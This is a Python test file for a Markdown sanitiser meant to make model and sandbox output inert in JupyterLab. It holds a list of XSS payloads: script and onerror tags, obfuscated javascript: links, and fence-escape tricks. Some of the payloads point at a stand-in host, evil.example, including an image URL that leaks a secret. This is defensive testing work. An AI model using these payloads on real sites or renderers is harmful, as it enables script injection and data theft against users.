"""Model and sandbox Markdown is inert once rendered the way JupyterLab renders it (marked,
its plugins, its math handling), and it still reads as the same text."""

from __future__ import annotations

import json
import random
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from think_kernel.safeoutput import safe_markdown

CHECK = Path(__file__).with_name("render_check.mjs")

ATTACKS = [
    "<img src=x onerror=alert(1)>",
    "<script>top.__pwned=1</script>",
    "<svg onload=alert(1)>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>">',
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button>go</button></form>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](javascript\\:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox)",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "![x](https://evil.example/?leak=secret)",
    "![x](//evil.example/x.png)",
    "<https://evil.example/>",
    "<a href='https://evil.example'>x</a>",
    "`a` <img src=x onerror=1> `b`",
    "`a\n- b` `<img src=x onerror=1>` x`",
    "[a](`) `x` <img src=x onerror=1> `",
    "| a | b |\n|---|---|\n| `x | <img src=x onerror=1>` | y |",
    "- a\n\n  ```\n<img src=x onerror=1>\n  ```",
    "- ```\n  x\n  ```\n  <img src=x onerror=1>",
    "- a\n  ```\n  x\n     ```\n  <img src=x onerror=1>",
    "> ```\n> x\n```\n<img src=x onerror=1>\n```",
    "```\nx\n```~\n<img src=x onerror=1>",
    '```x" onmouseover="alert(1)\ny\n```',
    "```mermaid\ngraph TD; A-->B\n```",
    "<details>\n```\n<img src=x onerror=1>\n```",
    "<details><summary>Reasoning</summary>\n<img src=x onerror=1>",
    "$<img src=x onerror=1>$",
    "$$\\href{javascript:alert(1)}{x}$$",
    "\\<img src=x onerror=1>",
    "&lt;img src=x onerror=1&gt; &#60;script&#62;",
    "<!-- x --><img src=x onerror=1>",
    "\t```\n<img src=x onerror=1>\n\t```\n<img src=x onerror=2>",
]
FRAGMENTS = [
    *ATTACKS, "```", "````", "~~~", "  ```", "   ```py", "    ```", "- ", "1. ", "> ", "  ", "\t",
    "`", "``", "\\", "[", "]", "(", ")", "!", "|", "---", "\n", "\n\n", "$", "$$", "*", "_",
    "text", "<b>", "https://ok.example/a", "[x](", "](", "javascript:", "https://", "@@0@@",
    "&#", "&lt;", "\\(", "\\[", "\\begin{x}", "| a | b |\n|---|---|\n", "<", ">",
    "    ", "[ok](https://ok.example/)", "![p](plot.png)", "<code>", "</code>",
    "<br>", "<details><summary>Whole (1)</summary>\n\n", "</details>",
]  # fmt: skip


def _render_findings(texts: list[str]) -> list[list[str]]:
    if shutil.which("node") is None:
        pytest.fail("node is needed to render Markdown as JupyterLab does")
    proc = subprocess.run(["node", str(CHECK)], input=json.dumps(texts), capture_output=True,
                          text=True, timeout=300, check=True)  # fmt: skip
    return json.loads(proc.stdout)


def _corpus(n: int, seed: int) -> list[str]:
    rng = random.Random(seed)
    return ["".join(rng.choice(FRAGMENTS) for _ in range(rng.randint(2, 12))) for _ in range(n)]


@pytest.mark.slow
def test_the_checker_sees_the_attacks_unsanitised() -> None:
    """Without the sanitiser, the renderer check flags the attacks (so the test can fail)."""
    flagged = [a for a, f in zip(ATTACKS, _render_findings(ATTACKS), strict=True) if f]
    assert len(flagged) >= 25
    for attack in ATTACKS[:9] + ATTACKS[13:18]:
        assert attack in flagged, attack


@pytest.mark.slow
def test_no_attack_survives_rendering() -> None:
    texts = ATTACKS + _corpus(6000, seed=7)
    safe = [safe_markdown(t) for t in texts]
    bad = [(t, s, f) for t, s, f in zip(texts, safe, _render_findings(safe), strict=True) if f]
    assert bad == [], bad[:5]


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("<>`~[]()!\\ \t\n-*>|$&#:;/=\"'ajvscriptmgox1")),
               max_size=80))  # fmt: skip
def test_no_raw_tag_outside_code(text: str) -> None:
    """Outside fenced code, every ``<`` left is one of our own inert tags."""
    out = safe_markdown(text)
    fence = False
    for line in out.split("\n"):
        if line.lstrip(" ").startswith(("```", "~~~")):
            fence = not fence
            continue
        if not fence:
            rest = line.replace("<code>", "").replace("</code>", "")
            rest = rest.replace("<details><summary>", "").replace("</summary>", "")
            rest = rest.replace("</details>", "").replace("<br>", "")
            assert "<" not in rest, (text, out)


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=10).map("".join))
def test_sanitising_twice_changes_nothing(text: str) -> None:
    """Idempotent, so a bundle can be checked by sanitising it again (the doctor does)."""
    once = safe_markdown(text)
    assert safe_markdown(once) == once


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_never_raises_and_keeps_plain_text(text: str) -> None:
    out = safe_markdown(text)
    if not any(c in text for c in "<[`~\\!\r"):
        assert out == text


def test_legitimate_markdown_keeps_its_shape() -> None:
    answer = (
        "Here is **the fix** for `List<int>`:\n\n"
        "```python\nif a < b:\n    print('<ok>')\n```\n\n"
        "1. Install:\n   ```bash\n   pip install x\n   ```\n"
        "- [ ] a task\n"
        "See [the docs](https://docs.example/a_(b)?q=1&r=2) and [notes](notes/a.md#top).\n"
        "![plot](plot.png) ![inline](data:image/png;base64,iVBORw0KGgo=)\n"
        "$x^2$ and a < b."
    )
    out = safe_markdown(answer)
    assert "```python\nif a < b:\n    print('<ok>')\n```" in out
    assert "   ```bash\n   pip install x\n   ```" in out
    assert "<code>List&lt;int&gt;</code>" in out
    assert "- [ ] a task" in out
    assert "[the docs](https://docs.example/a_(b)?q=1&r=2)" in out
    assert "[notes](notes/a.md#top)" in out
    assert "![plot](plot.png)" in out and "![inline](data:image/png;base64,iVBORw0KGgo=)" in out
    assert "a &lt; b" in out


def test_remote_images_become_links() -> None:
    assert safe_markdown("![chart](https://x.example/c.png?d=1)") == (
        "[image: chart](https://x.example/c.png?d=1)"
    )
    assert safe_markdown("![t](javascript:x)") == "!\\[t](javascript:x)"


def test_our_reasoning_fold_is_kept_and_only_alone() -> None:
    fold = "<details><summary>Reasoning</summary>\n\nhmm <b>\n\n</details>"
    assert (
        safe_markdown(fold) == "<details><summary>Reasoning</summary>\n\nhmm &lt;b>\n\n</details>"
    )
    glued = "<details><summary>Reasoning</summary>\n<img src=x onerror=1>"
    assert safe_markdown(glued).startswith("&lt;details>")
